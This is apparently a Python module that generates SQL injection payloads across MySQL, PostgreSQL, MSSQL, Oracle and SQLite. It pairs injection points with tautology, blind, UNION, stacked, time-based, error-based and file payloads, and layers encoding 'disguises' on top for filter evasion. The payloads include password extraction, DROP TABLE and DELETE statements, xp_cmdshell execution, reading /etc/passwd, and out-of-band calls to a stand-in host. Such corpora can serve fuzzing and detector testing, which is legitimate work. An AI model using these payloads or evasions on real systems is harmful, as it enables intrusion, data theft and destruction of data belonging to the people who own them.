"""Injected SQL: what is wanted, in which place of a statement, in which dialect, in which disguise."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote


@dataclass(frozen=True, slots=True)
class Injection:
    """One payload. `family` is what it wants, `dialect` who understands it (`any`: most), `disguise` what hides it."""

    family: str
    dialect: str
    disguise: str
    text: str


PLACES: tuple[tuple[str, str], ...] = (
    ("1", " -- -"),
    ("-1", ""),
    ("7)", "-- x"),
    ("0", "#"),
    ("1", "/*"),
    ("x'", "-- -"),
    ("'", "#"),
    ("admin'", " -- "),
    ("5')", "-- -"),
    ("%'", " and '%'='"),
    ("a'))", "--"),
    ("o'", ";--"),
    ('x"', "-- -"),
    ('")', "#"),
    ("L2026'\t", "\n-- "),
)
"""Where a text lands: what ends the value before it, and what hides the rest of the statement behind it."""

WANTED: tuple[tuple[str, str, str], ...] = (
    ("tautology", "any", " OR 1=1"),
    ("tautology", "any", " or 7>3"),
    ("tautology", "any", " OR 'a'='a'"),
    ("tautology", "any", " or not 1=2"),
    ("tautology", "any", " OR 2 BETWEEN 1 AND 3"),
    ("tautology", "any", " or 1 in (1,2)"),
    ("tautology", "any", " OR 1 IS NOT NULL"),
    ("tautology", "mysql", " || 1=1"),
    ("tautology", "mysql", " && 8=8"),
    ("tautology", "any", " or 'x' like 'x'"),
    ("tautology", "any", " or true"),
    ("tautology", "mysql", " xor 1=2"),
    ("tautology", "any", " or (1)=(1)"),
    ("tautology", "any", " or ((1=1))"),
    ("tautology", "any", " OR 3*2=6"),
    ("blind", "any", " AND 1=2"),
    ("blind", "any", " AND 5581=5581"),
    ("blind", "mysql", " AND ascii(substr(user(),1,1))>64"),
    ("blind", "postgres", " AND (SELECT substr(current_user,1,1))='p'"),
    ("blind", "any", " AND length(password)>5 AND 1=1"),
    ("blind", "any", " AND EXISTS(SELECT 1 FROM users)"),
    ("blind", "any", " OR (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1"),
    ("blind", "mysql", " AND MID(version(),1,1) LIKE 5"),
    ("blind", "sqlite", " AND (SELECT count(*) FROM sqlite_master)>0"),
    ("blind", "mysql", " RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("union", "any", " UNION SELECT 1,2,3"),
    ("union", "any", " UNION ALL SELECT NULL,NULL,NULL"),
    ("union", "any", " union select password, name from users"),
    ("union", "mysql", " UNION SELECT @@version, user()"),
    ("union", "postgres", " UNION SELECT table_name, 'x' FROM information_schema.tables"),
    ("union", "oracle", " UNION SELECT banner, NULL FROM v$version"),
    ("union", "any", " union distinct select 'a'"),
    ("union", "any", " UNION (SELECT 1)"),
    ("union", "any", " INTERSECT SELECT 1"),
    ("union", "mssql", " UNION SELECT name FROM sysobjects"),
    ("union", "any", " EXCEPT SELECT name FROM users"),
    ("union", "mysql", " UNION VALUES ROW(1,2)"),
    ("stacked", "any", "; DROP TABLE users"),
    ("stacked", "any", "; DELETE FROM orders"),
    ("stacked", "any", ";select 1,2"),
    ("stacked", "any", "; UPDATE users SET role='admin'"),
    ("stacked", "any", "; INSERT INTO users VALUES (1,'x')"),
    ("stacked", "mssql", "; EXEC xp_cmdshell 'dir'"),
    ("stacked", "mssql", "; EXEC master..xp_cmdshell 'ping'"),
    ("stacked", "mssql", "; DECLARE @q varchar(99); SET @q = 'x'"),
    ("stacked", "mssql", "; SHUTDOWN"),
    ("stacked", "postgres", "; COPY users TO '/tmp/x'"),
    ("stacked", "postgres", "; SELECT pg_sleep(5)"),
    ("stacked", "sqlite", "; ATTACH DATABASE '/tmp/x' AS y"),
    ("stacked", "mysql", "; CALL sys_exec('id')"),
    ("stacked", "any", "; TRUNCATE TABLE audit"),
    ("stacked", "any", "; GRANT ALL ON users TO x"),
    ("stacked", "any", ";;CREATE TABLE t (a int)"),
    ("stacked", "any", "; ALTER USER sa WITH PASSWORD 'x'"),
    ("time", "mysql", " AND SLEEP(5)"),
    ("time", "mysql", " OR IF(1=1,SLEEP(5),0)"),
    ("time", "mysql", " AND BENCHMARK(5000000,MD5(1))"),
    ("time", "postgres", " AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("time", "mssql", " WAITFOR DELAY '0:0:5'"),
    ("time", "mssql", "; WAITFOR DELAY '0:0:5'"),
    ("time", "oracle", " AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"),
    ("time", "sqlite", " AND 1=LIKE('A',UPPER(HEX(RANDOMBLOB(99999999))))"),
    ("time", "mysql", " AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)"),
    ("error", "mysql", " AND extractvalue(1,concat(0x7e,version()))"),
    ("error", "mysql", " AND updatexml(1,concat(0x7e,user()),1)"),
    ("error", "mssql", " AND 1=convert(int,@@version)"),
    ("error", "postgres", " AND 1=cast(version() as int)"),
    ("error", "oracle", " AND 1=ctxsys.drithsx.sn(1,(select user from dual))"),
    ("error", "any", " HAVING 1=1"),
    ("error", "any", " ORDER BY 99"),
    ("error", "any", " GROUP BY 1,2,3 HAVING 1=1"),
    ("error", "mysql", " PROCEDURE ANALYSE(1)"),
    ("file", "mysql", " INTO OUTFILE '/tmp/x'"),
    ("file", "mysql", " AND load_file('/etc/passwd') IS NOT NULL"),
    ("file", "mysql", " LIMIT 1 INTO OUTFILE '/tmp/x'"),
    ("call_out", "oracle", " AND utl_http.request('http://x.example') IS NOT NULL"),
    ("call_out", "mssql", "; EXEC master..xp_dirtree '//x.example/a'"),
)
"""What is wanted: family, dialect and the words that follow the value."""

WHOLE: tuple[tuple[str, str, str], ...] = (
    ("comment", "any", "admin'--"),
    ("comment", "mysql", "admin'#"),
    ("comment", "any", "admin'/*"),
    ("comment", "any", "x');--"),
    ("bypass", "any", "'='"),
    ("bypass", "mysql", "'-'"),
    ("bypass", "any", "' or ''='"),
    ("bypass", "any", "'LIKE'"),
    ("bypass", "any", "' or 1 or '"),
    ("bypass", "any", "x' or '1"),
    ("bypass", "mysql", "\\' or 1=1-- -"),
    ("inside", "any", "'||(select password from users)||'"),
    ("inside", "mssql", "'+char(65)+char(66)+'"),
    ("inside", "oracle", "'||utl_inaddr.get_host_address('x.example')||'"),
    ("inside", "mysql", "'-sleep(5)-'"),
    ("inside", "mysql", "'and(select*from(select(sleep(5)))a)and'"),
    ("inside", "any", "'+(select 1)+'"),
    ("inside", "any", "'||'a'||'b"),
    ("inside", "mysql", "'^(select(1)from(users))^'"),
    ("inside", "any", "x' or 1=1 or 'x'='y"),
    ("whole", "mysql", "sleep(5)"),
    ("whole", "postgres", "pg_sleep(5)"),
    ("whole", "mysql", "(select*from(select(sleep(5)))a)"),
    ("whole", "any", "(select password from users limit 1)"),
    ("whole", "any", "(case when 1=1 then 1 else 1/0 end)"),
    ("whole", "mysql", "1-benchmark(9999999,md5(1))"),
    ("whole", "any", "1-(select 1 from users)"),
    ("whole", "any", "1) or (1=1"),
    ("whole", "mysql", "if(1=1,sleep(5),0)"),
    ("whole", "any", "1 or 1"),
    ("whole", "any", "1,(select password from users)"),
    ("insert", "any", "x', (select password from users))-- -"),
    ("insert", "any", "x','y','z')-- -"),
    ("insert", "mysql", "x',sleep(5))#"),
)
"""Payloads that are whole as they are."""


def _inline(text: str) -> str:
    return text.replace(" ", "/**/")


def _versioned(text: str) -> str:
    return re.sub(r"\b(UNION|SELECT|OR|AND)\b", r"/*!50000\1*/", text, flags=re.IGNORECASE)


def _wide(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


DISGUISES: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "mixed case": lambda text: "".join(sign.upper() if at % 2 else sign.lower() for at, sign in enumerate(text)),
    "tabs": lambda text: text.replace(" ", "\t\x0b"),
    "inline comments": _inline,
    "version comments": _versioned,
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "percent every letter": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "entities": lambda text: html.escape(text, quote=True),
    "numbered entities": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "percent entities": lambda text: quote("".join(f"&#x{ord(sign):x};" for sign in text), safe=""),
    "escapes": lambda text: "".join(f"\\u{ord(sign):04x}" for sign in text),
    "percent u": lambda text: "".join(f"%u{ord(sign):04x}" for sign in text),
    "wide letters": _wide,
    "typographic quotes": lambda text: text.replace("'", "’").replace('"', "”"),
    "zero width": lambda text: text.replace("or", "o\u200br").replace("SELECT", "SE\u200bLECT").replace("'", "\u200b'"),
    "overlong": lambda text: quote(text, safe="").replace("%27", "%c0%a7").replace("%22", "%c0%a2"),
    "null bytes": lambda text: text.replace("'", "%00'").replace(" ", "%20"),
}
"""Ways to hide a payload from somebody who reads it as it comes."""


def injections() -> Iterator[Injection]:
    """Every payload in every place; each disguise on every fifth, so that each meets every family. Deterministic."""
    payloads = [*_placed(), *WHOLE]
    for number, (family, dialect, text) in enumerate(payloads):
        yield Injection(family, dialect, "plain", text)
        for turn, (name, hide) in enumerate(DISGUISES.items()):
            hidden = hide(text)
            if hidden != text and (number + turn) % 5 == 0:
                yield Injection(family, dialect, name, hidden)


def _placed() -> Iterator[tuple[str, str, str]]:
    for (before, after), (family, dialect, wanted) in product(PLACES, WANTED):
        if after.startswith(" and") and wanted.startswith(";"):
            continue  # no database would read that
        quoted = "'" if "'" in before else '"'
        if '"' in before and "'" in wanted:
            wanted = wanted.replace("'", quoted)  # noqa: PLW2901  the same literal in the other quotes
        yield family, dialect, before + wanted + after
